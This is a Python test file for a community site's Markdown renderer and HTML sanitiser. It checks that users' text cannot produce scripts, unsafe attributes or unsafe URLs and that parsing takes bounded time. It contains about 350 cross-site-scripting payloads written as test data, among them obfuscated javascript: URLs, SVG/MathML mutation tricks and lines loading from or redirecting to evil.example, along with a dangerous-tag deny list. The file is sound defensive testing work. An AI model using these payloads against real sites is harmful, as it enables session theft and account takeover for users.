"""Members' text becomes HTML that may be shown to anyone, whatever was typed."""

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from readinggroup.lib.markup import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_SCHEMES,
    ALLOWED_TAGS,
    LONGEST,
    render_markdown,
    sanitise,
)

# Every element whose content a browser reads by other rules than HTML's, or that runs, fetches, asks or frames.
DANGEROUS_TAGS = {
    "applet", "area", "audio", "base", "button", "canvas", "details", "dialog", "embed", "form", "frame", "frameset",
    "head", "html", "body", "iframe", "img", "input", "isindex", "keygen", "link", "listing", "map", "marquee", "math",
    "menuitem", "meta", "noembed", "noframes", "noscript", "object", "optgroup", "option", "param", "picture",
    "plaintext", "portal", "script", "select", "slot", "source", "style", "svg", "table", "template", "textarea",
    "title", "track", "video", "xmp",
}  # fmt: skip

REL = "nofollow ugc noopener noreferrer"

# Written for this project, one or more for each known way around a sanitiser.
HTML_ATTACKS = [
    # scripts, as a browser would find them
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<script\x0c>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # attributes that run
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    "<a href=http://a.example onmouseover=alert(1)>x</a>",
    "<a href='http://a.example'onfocus=alert(1) autofocus tabindex=0>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;inset:0;z-index:9999\">over everything</p>",
    "<p style='animation-name:x' onanimationstart=alert(1)>",
    # foreign content and what changes its meaning when parsed twice
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><a title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<template><script>alert(1)</script></template>",
    "<table><td><script>alert(1)</script></table>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    # frames, forms, redirections
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input name=csrfmiddlewaretoken value=mine>",
    # htmx and the page's own scripts
    "<p hx-get=/c/x/withdraw/ hx-trigger=load>x</p>",
    "<p data-hx-post=/c/x/withdraw/ data-hx-trigger=load>x</p>",
    "<a href=/ hx-boost=true hx-on:click=alert(1)>x</a>",
    "<a href=/ hx-on::after-request=alert(1) ws-connect=/x sse-connect=/y>x</a>",
    "<p data-opens data-goes data-closes data-focus=x>x</p>",
    "<script type=text/hyperscript>on load call alert(1)</script>",
    # names that would hide the page's own
    "<a id=discussion name=composer href=http://a.example>x</a>",
    "<p id=__proto__ class=comment name=body>x</p>",
    "<form id=x><input name=attributes><input name=parentNode></form>",
    "<ol start=\"1\" id=c-1 type=a reversed style=x><li value=9>x</li></ol>",
]  # fmt: skip
URL_ATTACKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "java\x00script:alert(1)",
    "javascript\u00a0:alert(1)",
    "\u2028javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script&colon;alert(1)",
    "&#1;javascript:alert(1)",
    "javascript%3Aalert(1)",
    "javascript://a.example/%0aalert(1)",
    "jav\\ascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBSCRIPT:msgbox(1)",
    "livescript:x",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "DATA:text/html;charset=utf-8,x",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)",
    "blob:https://a.example/x",
    "file:///etc/passwd",
    "filesystem:https://a.example/x",
    "about:blank",
    "ms-word:ofe|u|http://evil.example/x.docx",
    "intent://x#Intent;scheme=http;end",
    "http://a.example/\" onclick=\"alert(1)",
    "http://a.example/' onclick='alert(1)",
    "http://a.example/\"><script>alert(1)</script>",
]  # fmt: skip
MARKDOWN_ATTACKS = [
    "[x](http://a.example \"t\\\" onclick=alert(1)\")",
    "[x](http://a.example 'q\" onmouseover=alert(1) y=\"')",
    "[x](http://a.example (t) onclick=alert(1))",
    "[x](<http://a.example> onclick=alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "![x\" onerror=alert(1)](http://a.example/x.png)",
    "![![x](javascript:alert(1))](javascript:alert(1))",
    "[![x](http://a.example/x.png)](javascript:alert(1))",
    "![track](http://evil.example/pixel.png)",
    "![x][ref]\n\n[ref]: http://evil.example/pixel.png",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]: <javascript:alert(1)> \"t\"",
    "[a][b]\n\n[b]: data:text/html,x 'title\" onclick=alert(1)'",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<http://a.example/\"onclick=alert(1)>",
    "<http://a.example/onclick=alert(1)//>",
    "<a@b.example\"onclick=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onclick=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\\[x](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>",
    "# <script>alert(1)</script>",
    "<script>alert(1)</script>\n===",
    "*<b onclick=alert(1)>*",
    "[<script>alert(1)</script>](http://a.example)",
    "[x](http://a.example)<script>alert(1)</script>",
    "<div>\n\n*x*\n\n<script>alert(1)</script>\n\n</div>",
    "<div markdown=1 onclick=alert(1)>x</div>",
    "a\x00<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} {% debug %}",
]  # fmt: skip
WAYS_TO_LINK = [
    "[x]({})",
    "[x](<{}>)",
    "[x]\n\n[x]: {}",
    "<{}>",
    "![x]({})",
    '<a href="{}">x</a>',
    '<a href="{0}" title="{0}">x</a>',
]
ATTACKS = [*HTML_ATTACKS, *MARKDOWN_ATTACKS, *(way.format(url) for way in WAYS_TO_LINK for url in URL_ATTACKS)]


SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.-]*):")


def parsed(html):
    """The HTML as elements. lxml refuses control characters; a browser treats them as it does blanks, or worse."""
    return lxml_html.fragment_fromstring(re.sub(r"[\x00-\x08\x0b-\x1f]", " ", html), create_parent="div")


def faults_of(html):
    """Everything in the HTML that is not on the allow-list: tags, attributes, schemes; comments too."""
    for element in parsed(html).iterdescendants():
        if element.tag not in ALLOWED_TAGS:
            yield f"<{element.tag}>"
            continue
        for name, value in element.attrib.items():
            if name == "rel" and element.tag == "a":
                continue
            if name not in ALLOWED_ATTRIBUTES.get(element.tag, ()):
                yield f"<{element.tag} {name}={value!r}>"
            # As browsers read it (url.spec.whatwg.org): without tabs and line ends, and controls at the beginning.
            elif name == "href":
                scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33)))))
                if scheme and scheme[1].lower() not in ALLOWED_SCHEMES:
                    yield f"{scheme[1]}: in {value!r}"


def shown(html):
    """What a person reads of it."""
    return parsed(html).text_content()


def test_there_are_attacks_enough():
    assert len(set(ATTACKS)) > 350
    assert min(map(len, (HTML_ATTACKS, URL_ATTACKS, MARKDOWN_ATTACKS))) >= 40


def test_the_check_would_find_a_fault():
    bad = '<p onclick="x"><b>x</b><a href=" java&#10;script:x" title="y">x</a><!-- x --></p>'
    assert len(list(faults_of(bad))) == 5


@pytest.mark.parametrize("make", [render_markdown, sanitise])
def test_nothing_gets_through_that_is_not_on_the_list(make):
    """Through Markdown, and through the sanitiser alone, which has to hold if Markdown should ever let HTML pass."""
    faults = {attack: list(faults_of(make(attack))) for attack in ATTACKS}
    assert {attack: found for attack, found in faults.items() if found} == {}


def test_the_list_itself_names_nothing_dangerous():
    assert not ALLOWED_TAGS & DANGEROUS_TAGS
    names = {name for attributes in ALLOWED_ATTRIBUTES.values() for name in attributes}
    assert not [name for name in names if name.startswith(("on", "hx-", "data-", "form"))]
    assert not names & {"style", "id", "name", "class", "src", "srcdoc", "srcset", "action", "target", "xlink:href"}
    assert not {"javascript", "vbscript", "data", "file", "blob"} & ALLOWED_SCHEMES


# What Markdown and HTML are made of, so that random text is often nearly something.
PIECES = st.sampled_from(
    ["*", "_", "**", "`", "```", "[", "]", "(", ")", "<", ">", "!", "#", "- ", "1. ", "> ", "\n", "\n\n", "    ", "\\",
     "&", "&#", ";", ":", "//", '"', "'", "=", "[a]: ", "javascript:", "http://a.example", "<script>", "</p>",
     "<a href=", "<svg>", "<math>", "<style>", "<!--", "-->", "onclick=", "&lt;", "&colon;", "\t",
     "\u00a0", "é", "漢", "🙂", "\x00"]
)  # fmt: skip
TYPED = st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=40).map("".join)


@given(TYPED)
@settings(max_examples=400, deadline=None)
def test_whatever_is_typed_is_safe_and_something_of_it_is_there(text):
    html = render_markdown(text)
    assert list(faults_of(html)) == []
    assert html


@given(st.one_of(TYPED, TYPED.map(render_markdown), st.sampled_from(ATTACKS)))
@settings(max_examples=400, deadline=None)
def test_sanitising_twice_is_sanitising_once(html):
    once = sanitise(html)
    assert sanitise(once) == once


@given(TYPED)
@example("```\x000")  # nothing to be seen, and a NUL
@settings(max_examples=200, deadline=None)
def test_what_is_rendered_needs_no_more_sanitising(text):
    html = render_markdown(text)
    assert shown(sanitise(html)).strip() == shown(html).strip()
    assert [element.tag for element in parsed(sanitise(html)).iter()] == [
        element.tag for element in parsed(html).iter()
    ]


@given(st.text(st.characters(categories=["Lu", "Ll", "Lo", "Nd"]), min_size=1, max_size=200))
def test_plain_words_stay_what_they_are(words):
    assert shown(render_markdown(words)).strip() == words


@pytest.mark.parametrize(
    "typed",
    [
        "(c) (r) (tm) -- --- ... \"quotes\" 'single' +-",
        "www.a.example and http://a.example/x and ana@example.org",
        "2 < 3 > 1 & so on; a_b_c, 5 * 3 * 2",
        "it's :) :-D 1/2 x^2 H~2~O ~~gone~~ ==marked==",
        "<b>bold</b> <br> <!-- not seen --> &unknown;",
        "| a | b |",
        "a\u00a0b 'n' é 漢字 עברית 🙂",
    ],
)
def test_what_was_typed_is_not_changed_into_something_else(typed):
    html = render_markdown(typed)
    assert shown(html) == typed
    assert "<a" not in html


# What Markdown takes for a sign without content: nothing would be seen of it, and the comment would stand there empty.
@pytest.mark.parametrize(
    "typed",
    ["[1]: http://a.example", "[1]: http://a.example 'title'", "#", "###", ">", "> >", "-", "1.", "- -\n- -",
     "```\n```", "[](http://a.example)", "[]()", "&nbsp;", "&#32;", "&#8203;"],
)  # fmt: skip
def test_what_markdown_would_swallow_is_shown_as_typed(typed):
    html = render_markdown(typed)
    assert shown(html).split() == typed.split()
    assert list(faults_of(html)) == []


def test_headings_stay_below_those_of_the_page():
    html = render_markdown("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f\n\ng\n===\n\nh\n---")
    tags = [element.tag for element in parsed(html)]
    assert tags == ["h4", "h5", "h6", "h6", "h6", "h6", "h4", "h5"]


@pytest.mark.parametrize(
    "link", ["[x](http://a.example)", "<https://a.example>", "<ana@example.org>", "[x]\n\n[x]: /c/1/", "[x](/)"]
)
def test_links_are_marked_as_a_strangers(link):
    (anchor,) = parsed(render_markdown(link)).iter("a")
    assert anchor.get("rel") == REL
    assert set(anchor.attrib) == {"href", "rel"}


def test_the_usual_is_there():
    html = render_markdown("*a* **b** `c`\n\n> d\n\n- e\n\n7. f\n\n***\n\n```\ng\n```\n\nh  \ni")
    for part in (
        "<em>a</em>",
        "<strong>b</strong>",
        "<code>c</code>",
        "<blockquote>",
        "<ul>",
        '<ol start="7">',
        "<hr>",
        "<pre>",
        "<br>",
    ):
        assert part in html


def nested(line, least=0):
    """Lines one deeper than the other, as long as a comment may be."""
    lines, size = [], 0
    while size < LONGEST:
        lines.append(line(len(lines) + least))
        size += len(lines[-1])
    return "".join(lines)


# Each of these has brought a Markdown parser to its knees.
PATHOLOGICAL = {
    name: (name * LONGEST)[:LONGEST]
    for name in [
        "![", "[", "]", "[]", "[](", "](", "[a](", "![](", "[a](b \"", "[a](<b", "[[a]", "[^a]", "[a]\n",
        "[a]:\n", "[a]: b\n", "*a_", "_a*", "**", "*", "_", "***a ", "a**b", "a_b_", "*a **b ", "é*", "🙂_", "`",
        "`a``b", "```\n", "~~~\n", "<", "<a ", "<!--", "<?", "<![CDATA[", "<b a=\"", "<http://a", "&", "&#",
        "&amp;", "&CounterClockwiseContourIntegral;", "\\", "\\\n", ">", "> ", "- ", "1. ", "- a\n", "> a\n",
        "-\n", "# ", "#\n", "a\n=\n", "|", "a|", "|-|\n", "\t", "\n", "x\n\n", " ", "a  \n", "\"",
    ]
} | {
    "lists in lists": nested(lambda depth: "  " * depth + "- a\n"),
    "quotations in quotations": nested(lambda depth: ">" * depth + " a\n", 1),
    "longer and longer backticks": nested(lambda depth: "`" * depth + " ", 1),
    "opened, never closed": "[" * (LONGEST // 2) + "](a)" * (LONGEST // 8),
    "closed, never opened": "*a " * (LONGEST // 6) + "a* " * (LONGEST // 6),
}  # fmt: skip


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_the_worst_text_takes_a_bounded_time(name):
    """A guard against quadratic and cubic parsing, not a measurement.

    Here they take two tenths at most, on a machine that does much else some more; a quadratic one takes minutes.
    """
    text = PATHOLOGICAL[name][:LONGEST]
    begun = time.process_time()
    html = render_markdown(text)
    assert time.process_time() - begun < 3
    assert list(faults_of(html)) == []
